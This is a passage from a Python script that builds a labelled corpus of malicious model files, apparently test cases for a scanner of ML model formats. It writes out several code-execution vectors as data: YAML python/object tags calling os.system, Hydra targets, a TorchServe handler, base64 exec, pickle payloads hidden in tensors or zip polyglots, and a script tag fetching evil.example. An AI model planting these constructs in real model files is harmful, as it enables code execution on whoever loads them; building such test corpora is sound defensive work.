    one = lambda begin, end, shape=(2,): {"dtype": "F32", "shape": list(shape), "data_offsets": [begin, end]}
    write(60, "header-length", "a.safetensors", file({"a": one(0, 8)}, bytes(8), 1 << 40), "medium")
    write(60, "overlap", "a.safetensors", file({"a": one(0, 8), "b": one(4, 12)}, bytes(12)), "medium")
    write(60, "out-of-range", "a.safetensors", file({"a": one(0, 800, (200,))}, bytes(8)), "medium")
    write(60, "size-mismatch", "a.safetensors", file({"a": one(0, 8, (3,))}, bytes(8)), "medium")
    write(60, "duplicate-keys", "a.safetensors", file(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8)), "medium")
    write(60, "trailing-pickle", "a.safetensors", file({"a": one(0, 8)}, bytes(8) + ATTACK), "high")
    write(60, "zip-polyglot", "a.safetensors", file({"a": one(0, 8)}, bytes(8)) + zipped([("m.pkl", ATTACK)]), "high")
    write(60, "hole", "a.safetensors", file({"a": one(8, 16)}, bytes(16)), "medium")
    elf = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(56) + RANDOM.randbytes(200)
    write(60, "elf-in-tensor", "a.safetensors", file({"a": {"dtype": "U8", "shape": [len(elf)], "data_offsets": [0, len(elf)]}}, elf), "high")
    write(60, "pickle-in-tensor", "a.safetensors", file({"a": {"dtype": "U8", "shape": [len(ATTACK)], "data_offsets": [0, len(ATTACK)]}}, ATTACK), "high")
    write(60, "script-metadata", "a.safetensors", file({"__metadata__": {"note": "<script>fetch('//evil.example')</script>"}, "a": one(0, 8)}, bytes(8)), "medium")


def configurations():
    write(61, "auto-map-remote", "config.json", json.dumps({"model_type": "x", "architectures": ["X"], "auto_map": {"AutoModel": "evil/repo--modeling.X"}, "transformers_version": "4.40.0"}).encode(), "high")
    write(61, "auto-map-trust", "config.json", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}, "trust_remote_code": True}).encode(), "high")
    write(61, "hydra-target", "model_config.yaml", b"model:\n  encoder:\n    _target_: os.system\n    command: id\n", "high")
    write(61, "hydra-unknown", "model_config.yaml", b"model:\n  encoder:\n    _target_: evil_pkg.run\n    command: id\n", "high")
    write(61, "nemo", "a.nemo", tarred([("model_config.yaml", b"target: x\nencoder:\n  _target_: subprocess.Popen\n  args: [id]\n"), ("model_weights.ckpt", torch_zip(BENIGN))]), "high")
    write(61, "yaml-apply", "config.yaml", b"model:\n  a: 1\n  x: !!python/object/apply:os.system ['id']\n", "high")
    write(61, "yaml-new", "config.yaml", b"model:\n  a: 1\n  x: !!python/object/new:subprocess.Popen [['id']]\n", "high")
    write(61, "yaml-name", "config.yaml", b"model:\n  a: 1\n  x: !!python/name:os.system\n", "high")
    write(61, "mlmodel", "MLmodel", b"artifact_path: model\nflavors:\n  python_function:\n    loader_module: evil_loader\n    python_version: 3.11.2\nmodel_uuid: x\n", "high")
    skops = {"__class__": "OperatorFuncNode", "__module__": "operator", "__loader__": "OperatorFuncNode", "__id__": 1, "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [], "__id__": 2}, "protocol": 1, "_skops_version": "0.9"}
    write(61, "skops", "a.skops", zipped([("schema.json", json.dumps(skops).encode())]), "high")
    write(61, "skops-type", "a.skops", zipped([("schema.json", json.dumps({**skops, "__class__": "system", "__module__": "posix", "__loader__": "TypeNode"}).encode())]), "high")
    write(61, "lora", "adapter_config.json", json.dumps({"peft_type": "LORA", "base_model_name_or_path": "/models/base", "auto_mapping": {"base_model_class": "X", "parent_library": "evil_repo.modeling"}, "task_type": None}).encode(), "high")
    write(61, "mar", "a.mar", zipped([("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "handler.py", "modelName": "m", "serializedFile": "m.pt"}}).encode()), ("handler.py", b"import os\nos.system('id')\n"), ("m.pt", torch_zip(BENIGN))]), "high")
    write(61, "python-beside", "modeling_x.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "high")
    write(61, "notebook", "a.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": ["import torch\n", "model = torch.load('x.pt')\n"], "outputs": [], "execution_count": None}]}).encode(), "medium")
    write(61, "llamafile", "a.llamafile", b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(500) + zipped([("model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0))]), "high")


for part in (pickles, containers, keras, tensorflow, onnx, gguf, safetensors, configurations):
    part()
with open(os.path.join(FOLDER, "manifest.tsv"), "w", encoding="utf8") as manifest:
    manifest.write("case\tvariant\tfile\tleast\n" + "\n".join(ROWS) + "\n")
print(len(ROWS))
